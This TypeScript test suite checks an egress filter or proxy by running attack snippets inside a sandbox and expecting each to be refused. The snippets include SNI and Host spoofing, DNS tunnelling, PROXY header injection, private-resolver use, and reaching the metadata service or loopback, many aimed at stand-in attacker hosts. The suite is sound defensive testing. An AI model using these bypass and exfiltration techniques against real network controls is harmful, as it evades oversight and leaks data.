/** Attacks below HTTP: addresses, names, TLS. */
import assert from 'node:assert/strict'
import { type Attack, questions, refused, requests, unasked, unseen } from './attack.ts'

export const addressAttacks: Attack[] = [
  {
    name: 'a raw address without a server name',
    does: ({ evil, main }) => `for at in '${evil}', '${main}': print(tls(at, sni=None))`,
    ends: refused,
  },
  {
    name: 'a raw address, as HTTP',
    does: ({ evil }) => `print(status(tcp('${evil}', 80, request('${evil}', '/raw'))))`,
    ends: /^403$/,
    holds: unseen('raw'),
  },
  {
    name: 'the address of the attacker under a listed server name: the name is dialled',
    does: ({ evil }) => `print(body(tls('other.test', at='${evil}', data=request('other.test', '/named'))))`,
    ends: /"sni":"other.test"/,
    holds: (seen, { main }) =>
      assert.deepEqual(
        requests(seen).map(({ address }) => address),
        [main],
      ),
  },
  {
    name: 'the address of the attacker under a listed Host: the name is dialled',
    does: ({ evil }) => `print(body(tcp('${evil}', 80, request('other.test', '/named'))))`,
    ends: /"host":"other.test"/,
    holds: (seen, { main }) =>
      assert.deepEqual(
        requests(seen).map(({ address }) => address),
        [main],
      ),
  },
  {
    name: 'an address as the server name',
    does: ({ evil, main }) => `for at in '${evil}', '${main}': print(greet(at, hello([at])))`,
    ends: refused,
  },
  {
    name: 'an entry of /etc/hosts for a listed name: the name is dialled',
    does: ({ evil }) => `
with hosts('${evil}', 'other.test'): print(body(tls('other.test', data=request('other.test', '/hosts'))))`,
    ends: /"sni":"other.test"/,
    holds: (seen, { main }) =>
      assert.deepEqual(
        requests(seen).map(({ address }) => address),
        [main],
      ),
  },
  {
    name: 'an entry of /etc/hosts for a name that is not listed',
    does: ({ main }) => `
with hosts('${main}', 'evil.test'): print(tls('evil.test', data=request('evil.test', '/hosts')))`,
    ends: refused,
  },
  {
    name: 'IPv6',
    does: `
print(tcp('2001:db8::1', 443)); print(tcp('::ffff:11.0.0.1', 443)); print(tcp('fe80::1%eth0', 443)); print(udp('127.0.0.1', 1))
print(attempt(lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'x', ('2001:db8::1', 443))))`,
    ends: /^(unreachable|timeout|refused|reset|closed|no such name|cannot assign requested address|network is unreachable|invalid argument|address family not supported by protocol|operation not permitted|no such device)$/,
  },
  {
    name: 'bytes of no protocol to an address that is not listed',
    does: ({ evil }) =>
      `print(tcp('${evil}', 9000, b'hello\\n')); print(tcp('${evil}', 9000)); print(tcp('${evil}', 443, b'\\0\\1\\2'))`,
    ends: /^(reset|closed)$/,
  },
  {
    name: 'the greeting of a server that speaks first: SSH, FTP',
    does: ({ evil }) => `for port in 22, 21: print(tcp('${evil}', port))`,
    ends: /^(reset|closed)$/,
  },
  {
    name: 'FTP at a listed name, whose rule does not name the port',
    does: `print(tcp('other.test', 21)); print(tcp('raw.test', 21))`,
    ends: /^(reset|closed)$/,
  },
  {
    name: 'SSH where a rule names the port: it is let pass, to that name alone',
    does: ({ evil }) => `print(tcp('raw.test', 22)); print(tcp('${evil}', 22))`,
    ends: [/^SSH-2.0/, /^(reset|closed)$/],
  },
  {
    name: 'TLS on ports that are not its own',
    does: ({ evil }) => `for port in 80, 22, 53, 9000: print(greet('${evil}', hello(['evil.test']), port))`,
    ends: refused,
  },
  {
    name: 'HTTP on the port of TLS',
    does: ({ evil }) => `print(status(tcp('${evil}', 443, request('evil.test', '/odd'))))`,
    ends: /^403$/,
  },
  {
    name: 'a source port of a trusted service',
    does: ({ evil }) => `for port in 53, 80, 443, 123: print(tcp('${evil}', 9000, b'x\\n', source=('', port)))`,
    ends: /^(reset|closed|permission denied|refused)$/,
  },
  {
    name: 'a header of the PROXY protocol',
    does: ({ evil, main }) =>
      `print(tcp('${evil}', 80, b'PROXY TCP4 ${main} ${main} 1 80\\r\\n' + request('other.test', '/proxied')))`,
    ends: /^(reset|closed|HTTP\/1.1 4.*)/,
    holds: unseen('proxied'),
  },
]

export const tlsAttacks: Attack[] = [
  {
    name: 'a server name that is not listed: the alert says so',
    does: `print(tls('evil.test', at=anywhere)); print(greet(anywhere, hello(['evil.test'])))`,
    ends: [/access denied/, /^alert 49$/],
  },
  {
    name: 'look-alikes of a listed name',
    does: `
for name in 'xother.test', 'other.test.evil.test', 'other.tests', 'wild.test', 'xwild.test', 'other.test..', 'other.test\\0.evil.test', '*.wild.test', 'no.wild.test.evil.test':
    print(greet(anywhere, hello([name])))`,
    ends: refused,
  },
  {
    name: 'a denied name below a listed wildcard',
    does: `print(greet(anywhere, hello(['secret.no.wild.test']))); print(lookup('secret.no.wild.test'))`,
    ends: refused,
    holds: unasked('no.wild'),
  },
  {
    name: 'two server names, the listed one first or last',
    does: `print(greet(anywhere, hello(['other.test', 'evil.test']))); print(greet(anywhere, hello(['evil.test', 'other.test'])))`,
    ends: refused,
  },
  {
    name: 'encrypted ClientHello, with an outer name that is not listed or is',
    does: `
ech = struct.pack('>HH', 0xfe0d, 40) + b'\\0' + struct.pack('>HHB', 1, 1, 7) + struct.pack('>H', 0) + struct.pack('>H', 30) + os.urandom(30)
print(greet(anywhere, hello(['evil.test'], ech))); print(greet(anywhere, hello([], ech)))`,
    ends: refused,
  },
  {
    name: 'a ClientHello in pieces of a byte, and in many records',
    does: `
print(greet(anywhere, hello(['evil.test']), pause=0.002)); print(greet(anywhere, records(hello(['evil.test']), 3)))`,
    ends: refused,
  },
  {
    name: 'a ClientHello that is longer than anybody needs',
    does: `print(greet(anywhere, hello(['evil.test'], padding=40000))); print(greet('other.test', hello([], padding=17000) ))`,
    ends: refused,
  },
  {
    name: 'a ClientHello that never ends',
    does: `print(greet(anywhere, hello(['evil.test'])[:60]))`,
    ends: /^(reset|closed|timeout|alert.*)$/,
  },
  {
    name: 'early data: none is taken where TLS ends at the proxy',
    does: `
import subprocess
s = subprocess.run(['openssl', 's_client', '-connect', 'api.test:443', '-servername', 'api.test', '-tls1_3', '-ign_eof'],
    input=request('api.test', '/early'), capture_output=True, timeout=30).stdout.decode('latin1')
print('taken' if re.search(r'Max Early Data: [1-9]', s) else 'none taken' if 'HTTP/1.1 200' in s else s[-300:])`,
    ends: /^none taken$/,
  },
]

export const nameAttacks: Attack[] = [
  {
    name: 'names that are not listed do not resolve, and nobody is asked',
    does: `for name in 'evil.test', 'deadbeef.evil.test', 'a.b.c.nowhere.test', 'EVIL.test': print(dns(name)); print(dns(name, over='tcp'))`,
    ends: /^no such name$/,
    holds: (seen) => assert.deepEqual(questions(seen), []),
  },
  {
    name: 'a tunnel through TXT, NULL, MX, SRV and ANY of listed names',
    does: `for kind in 16, 10, 15, 33, 255, 257, 12: print(dns('d.wild.test', kind)); print(dns('api.test', kind))`,
    ends: /^(0 records|no such name|refused|not implemented)$/,
    holds: (seen) => assert.deepEqual(questions(seen), []),
  },
  {
    name: 'no IPv6, no HTTPS and no SVCB record, which would tell of HTTP/3 and of keys',
    does: `for kind in 28, 65, 64: print(dns('v6.test', kind))`,
    ends: /^0 records$/,
  },
  {
    name: 'a tunnel through names below a wildcard is bounded',
    // Faster than the bound refills, on a busy machine too.
    does: `
import collections, concurrent.futures
with concurrent.futures.ThreadPoolExecutor(16) as pool:
    print(collections.Counter(pool.map(lambda at: dns('%060x.wild.test' % at), range(3000))).most_common(3))`,
    ends: /refused|failure|no such name/,
    holds: (seen) => assert.ok(new Set(questions(seen)).size < 2500, 'a bound below 2500 names'),
  },
  {
    name: 'a resolver of its own: UDP, TCP, TLS, HTTPS',
    does: ({ main }) => `
print(dns('evil.test', at='${main}')); print(dns('evil.test', at='${main}', over='tcp')); print(tls('${main}', 853, sni='doh.test')); print(tls('${main}', sni='doh.test'))`,
    ends: /^(unreachable|reset|closed|.*access denied.*|timeout)$/,
    holds: (seen) => assert.deepEqual(questions(seen), []),
  },
  {
    name: 'DNS messages that are none',
    does: `
for data in b'', b'x', b'\\0' * 12, b'\\xff' * 512, query('api.test')[:-3], query('api.test')[:12] + b'\\xc0\\x0c\\0\\1\\0\\1', query('api.test') * 2, b'\\0\\7\\1\\0\\0\\2' + query('api.test')[6:]:
    def once():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(0.5); s.connect((server(), 53)); s.send(data); return told(s.recv(4096))
    print(attempt(once))
print(dns('api.test'))`,
    ends: [
      ...Array.from(
        { length: 8 },
        () => /^(timeout|form error|refused|failure|not implemented|no such name|\d records|none)$/,
      ),
      /^[1-9] records$/,
    ],
  },
  {
    name: 'a name that points to a private address, to loopback, to the metadata service, to the host',
    does: `
for name in 'private.test', 'alias.test', 'loopback.test', 'metadata.test', 'host.test':
    print(tls(name, at=anywhere)); print(status(tcp(anywhere, 80, request(name, '/inside')))); print(connect(name + ':80', data=request(name, '/inside')))`,
    ends: /^(reset|closed|50[0-9]|403|HTTP\/1\.1 (403|50\d).*|.*\| (HTTP\/1\.1 (403|50\d)|closed|reset).*|.*alert.*|.*unexpected eof.*)$/,
    holds: unseen('inside'),
  },
  {
    name: 'a listed alias of a name that is not: it is the listed name that was asked for',
    does: `print(dns('alias-out.test'))`,
    ends: /./,
  },
  {
    name: 'a name that has a private address beside a public one',
    does: `for _ in range(4): print(status(tcp(anywhere, 80, request('half-private.test', '/half'))))`,
    ends: /^(200|403|50\d)$/,
    holds: (seen, world) => assert.ok(!requests(seen).some(({ address }) => address === world.private)),
  },
]
